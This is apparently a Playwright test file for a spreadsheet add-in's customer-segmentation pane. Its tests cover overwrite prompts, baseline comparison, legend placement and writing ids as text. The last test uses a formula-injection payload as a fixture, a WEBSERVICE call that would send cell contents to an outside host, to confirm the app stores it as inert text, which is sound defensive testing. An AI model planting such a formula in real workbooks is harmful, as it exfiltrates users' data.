/**
 * The user's work and like-with-like monitoring in the workbench (issue 11): findings 2 (edits inside the output are
 * listed before a re-run, and the output can go to the next empty columns instead), 3 (new settings start a new
 * baseline, with "Compare anyway"), the legend that stays put (finding 5), the Segment summary sheet protected like
 * the output, and 7 (customer ids that look like formulas or numbers land as text on the Customer summary sheet).
 * docs/taskpane.md records how each fails on the round's base commit.
 */
import ExcelJS from "exceljs";
import { Browser, Locator, Page } from "playwright-core";
import {
  cellFill,
  cellText,
  chooseMethod,
  openWorkbench,
  rowTexts,
  segment,
  sheetTab,
  typeCells,
  useData,
} from "./workbench";

const SEGMENT = /^Segment [\d,]+ customers$/;

/**
 * The user types each text into a cell ([sheet, row, column], 0-based), then clicks Segment again: the consent
 * dialog must come and name `cells`. Returns the dialog, open.
 */
async function segmentAfterEdits(
  page: Page,
  edits: [sheet: string, row: number, column: number, text: string][],
  cells: string
): Promise<Locator> {
  for (const [sheet, row, column, text] of edits)
    await typeCells(page, sheet, row, column, [[text]]);
  await sheetTab(page, "Customers").click();
  await page.getByRole("button", { name: SEGMENT }).click();
  const dialog = page.getByRole("alertdialog", { name: "Overwrite cells that hold data?" });
  await dialog.waitFor();
  await expect(dialog.textContent()).resolves.toContain(cells);
  return dialog;
}

describe("finding 2: edits inside the output are asked about; the output can move aside", () => {
  let browser: Browser;
  let page: Page;
  let errors: string[];
  beforeAll(async () => {
    ({ browser, page, errors } = await openWorkbench({ sheet: "Customers", range: "C5" }));
  });
  afterAll(async () => browser?.close());

  it("lists G5 typed inside the RFM output and L5 beside it; the next empty columns keep both", async () => {
    await chooseMethod(page, "RFM", "rfm");
    await segment(page);
    const dialog = await segmentAfterEdits(
      page,
      [
        ["Customers", 4, 6, "call back in May"],
        ["Customers", 4, 11, "note"],
      ],
      "Customers!G5, Customers!L5"
    );
    await dialog.getByRole("button", { name: "Put results in the next empty columns" }).click();
    await page.getByTestId("segment-done").waitFor();

    await expect(cellText(page, "G5")).resolves.toBe("call back in May");
    await expect(cellText(page, "L5")).resolves.toBe("note");
    // The rest of the old output was the pane's: cleared, colours included.
    await expect(cellText(page, "H5")).resolves.toBe("");
    await expect(cellFill(page, "K2")).resolves.toBeNull();
    // The old legend ended in S: R, F, M, code, segment and Change in T:Y, the legend from AA.
    await expect(cellText(page, "T1")).resolves.toBe("R");
    await expect(cellText(page, "X1")).resolves.toBe("Segment");
    await expect(cellText(page, "AA1")).resolves.toBe("Segment");
    await expect(cellFill(page, "X2")).resolves.not.toBeNull();

    // The output's new place is the analysis's: running again asks about nothing and writes there.
    await page.getByRole("button", { name: SEGMENT }).click();
    await page.getByTestId("segment-done").waitFor();
    await expect(cellText(page, "G5")).resolves.toBe("call back in May");
    await expect(cellText(page, "T1")).resolves.toBe("R");
    expect(errors).toEqual([]);
  });
});

describe("finding 3: runs with other settings are not compared unless asked", () => {
  let browser: Browser;
  let page: Page;
  let errors: string[];
  beforeAll(async () => {
    ({ browser, page, errors } = await openWorkbench({ sheet: "Customers", range: "C5" }));
  });
  afterAll(async () => browser?.close());

  it("value tiers with new cutoffs start a new baseline: nobody flagged, and the pane says why", async () => {
    await chooseMethod(page, "Value tiers", "tiers");
    await segment(page);

    const cutoffs = [
      [1, "10"],
      [2, "40"],
    ] as const;
    for (const [n, value] of cutoffs) {
      const field = page.getByRole("spinbutton", { name: new RegExp(`^Tier ${n} ends at`) });
      await field.fill(value);
      await field.press("Tab");
    }
    await segment(page);
    // No Change column, nobody flagged: the data did not change.
    await expect(cellText(page, "H1")).resolves.toBe("");
    await expect(page.getByTestId("flagged-count").count()).resolves.toBe(0);
    await page.getByTestId("changes-new-baseline").waitFor();

    await page.getByRole("button", { name: "Compare anyway" }).click();
    await expect(page.getByTestId("changes-settings-changed").textContent()).resolves.toMatch(
      /made with other settings/
    );
    await expect(page.getByTestId("flagged-count").textContent()).resolves.toMatch(
      /^[\d,]+ customers would be flagged \(not marked in the sheet\)\.$/
    );
    await expect(cellText(page, "H1")).resolves.toBe("");
  });

  it("the same settings again are compared with that baseline: nobody flagged", async () => {
    await segment(page);
    await expect(page.getByTestId("flagged-count").textContent()).resolves.toBe(
      "0 customers flagged: see the Change column."
    );
    await expect(cellText(page, "H1")).resolves.toBe("Change");
  });

  it("an edit on the Segment summary sheet is asked about before it is replaced", async () => {
    const dialog = await segmentAfterEdits(
      page,
      [["Segment summary", 1, 0, "my own heading"]],
      "'Segment summary'!A2"
    );
    // A sheet the run replaces whole has no next empty columns to go to.
    await expect(
      dialog.getByRole("button", { name: "Put results in the next empty columns" }).count()
    ).resolves.toBe(0);
    await dialog.getByRole("button", { name: "Keep my data" }).click();
    await sheetTab(page, "Segment summary").click();
    await expect(cellText(page, "A2")).resolves.toBe("my own heading");
    expect(errors).toEqual([]);
  });
});

describe("finding 5, the legend: it stays put when the Change column appears", () => {
  let browser: Browser;
  let page: Page;
  let errors: string[];
  beforeAll(async () => {
    ({ browser, page, errors } = await openWorkbench({ sheet: "Customers", range: "C5" }));
  });
  afterAll(async () => browser?.close());

  it("value tiers run twice: the legend's header is in the same cell after the Change column appears", async () => {
    await chooseMethod(page, "Value tiers", "tiers");
    await segment(page);
    // Wherever the legend starts (J: H kept for the Change column, I empty), it starts there again.
    const legendAt = async () => {
      for (const column of ["H", "I", "J", "K"])
        if ((await cellText(page, `${column}1`)) === "Tier") return column;
      return null;
    };
    const first = await legendAt();
    expect(first).not.toBeNull();
    await segment(page);
    await expect(cellText(page, "H1")).resolves.toBe("Change");
    await expect(legendAt()).resolves.toBe(first);
    await expect(rowTexts(page, 1, "I", "K")).resolves.toEqual(["", "Tier", "Customers"]);
    expect(errors).toEqual([]);
  });
});

describe("finding 7: ids that look like formulas or numbers stay text", () => {
  let browser: Browser;
  let page: Page;
  let errors: string[];
  beforeAll(async () => {
    ({ browser, page, errors } = await openWorkbench());
  });
  afterAll(async () => browser?.close());

  const IDS = ['=WEBSERVICE("http://example.com/?d="&A2)', "+86 138 0013 8000", "-001"];

  it("writes them to the Customer summary as text, in the grid and in the .xlsx export", async () => {
    // As text, the way a CRM export opened in Excel holds them (the workbench types them as Excel would: quoted).
    await typeCells(
      page,
      "Transactions",
      1,
      0,
      IDS.map((id) => [id])
    );
    await sheetTab(page, "Transactions").click();
    await expect(cellText(page, "A2")).resolves.toBe(IDS[0]);
    await useData(page, "Transactions", "B3");
    await chooseMethod(page, "RFM", "rfm");
    await segment(page);

    const found = await page.evaluate((ids) => {
      const book = (
        window as unknown as {
          workbench: {
            cell(sheet: string, row: number, column: number): unknown;
            formulaAt(sheet: string, row: number, column: number): string | null;
          };
        }
      ).workbench;
      const at: Record<string, { value: unknown; formula: string | null }> = {};
      for (let row = 1; row < 3000; row++) {
        const value = book.cell("Customer summary", row, 0);
        if (ids.includes(value as string))
          at[value as string] = { value, formula: book.formulaAt("Customer summary", row, 0) };
      }
      return at;
    }, IDS);
    expect(Object.keys(found).sort()).toEqual([...IDS].sort());
    for (const id of IDS) expect(found[id]).toEqual({ value: id, formula: null });

    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("button", { name: "Download .xlsx" }).click(),
    ]);
    const chunks: Buffer[] = [];
    for await (const chunk of await download.createReadStream()) chunks.push(chunk as Buffer);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const sheet = book.getWorksheet("Customer summary") as ExcelJS.Worksheet;
    const cells = sheet.getColumn(1).values.filter((value) => IDS.includes(value as string));
    expect(cells.sort()).toEqual([...IDS].sort());
    expect(errors).toEqual([]);
  });
});
